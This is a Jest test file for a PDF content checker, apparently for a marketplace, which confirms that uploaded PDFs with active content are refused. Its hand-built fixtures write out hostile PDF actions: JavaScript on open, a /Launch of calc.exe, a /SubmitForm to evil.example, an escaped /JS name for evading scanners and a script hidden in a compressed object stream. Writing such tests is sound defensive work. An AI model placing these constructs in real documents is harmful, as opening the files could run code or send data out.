import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { checkFileContent } from './content-check';
import { ESTONIAN_TEMPLATE, GENERATORS, scratchFolder } from './testing/sample-files';

jest.setTimeout(60_000);

let folder: Awaited<ReturnType<typeof scratchFolder>>;
beforeAll(async () => {
  folder = await scratchFolder();
});
afterAll(() => folder.remove());

/** A small PDF written by hand, object by object, with a correct cross-reference table. */
function handWrittenPdf(catalogExtra: string, pageExtra = '', objects: string[] = []): Buffer {
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${pageExtra} >>`,
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const check = async (name: string, bytes: Buffer | Uint8Array) =>
  checkFileContent(await folder.write(name, Buffer.from(bytes)), 'pdf');

describe('PDFs that run code are refused before buyers get them', () => {
  it('accepts an ordinary PDF, and one that opens at a page or links to a web page', async () => {
    expect(await check('plain.pdf', await GENERATORS.pdf(ESTONIAN_TEMPLATE, { pages: 2 }))).toEqual({
      ok: true,
    });
    expect(await check('fit.pdf', handWrittenPdf('/OpenAction [3 0 R /Fit]'))).toEqual({ ok: true });
    expect(
      await check(
        'link.pdf',
        handWrittenPdf('', '/Annots [4 0 R]', [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.riigiteataja.ee/) >> >>',
        ]),
      ),
    ).toEqual({ ok: true });
  });

  it.each([
    ['/OpenAction running JavaScript', handWrittenPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    [
      'a document-level script in the /Names tree',
      handWrittenPdf('/Names << /JavaScript 4 0 R >>', '', [
        '<< /Names [(x) << /S /JavaScript /JS (1) >>] >>',
      ]),
    ],
    ['/Launch on opening a page (/AA)', handWrittenPdf('', '/AA << /O << /S /Launch /F (calc.exe) >> >>')],
    [
      '/SubmitForm on a link',
      handWrittenPdf('', '/Annots [4 0 R]', [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>',
      ]),
    ],
    ['/ImportData', handWrittenPdf('/OpenAction << /S /ImportData /F (data.fdf) >>')],
    [
      'a script name written with a #xx escape (/J#53)',
      handWrittenPdf('/OpenAction << /S /JavaScript /J#53 (app.alert(1)) >>'),
    ],
    [
      'an XFA form',
      handWrittenPdf('/AcroForm << /Fields [] /XFA 4 0 R >>', '', ['<< /Length 0 >>\nstream\n\nendstream']),
    ],
  ])('refuses a PDF with %s, saying why in et and en', async (_what, bytes) => {
    expect(await check('active.pdf', bytes)).toMatchObject({ ok: false, code: 'FILE.PDF_HAS_SCRIPTS' });
  });

  it('finds a script inside a compressed object stream', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    doc.catalog.set(PDFName.of('OpenAction'), action);
    const bytes = await doc.save({ useObjectStreams: true });
    expect(Buffer.from(bytes).includes('/JavaScript')).toBe(false);
    expect(await check('compressed.pdf', bytes)).toMatchObject({
      ok: false,
      code: 'FILE.PDF_HAS_SCRIPTS',
      reason: expect.stringContaining('/JavaScript'),
    });
  });

  it('refuses a PDF it cannot read rather than vouch for it', async () => {
    const broken = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x41)]);
    expect(await check('broken.pdf', broken)).toMatchObject({ ok: false, code: 'FILE.PDF_NOT_CHECKABLE' });
  });
});
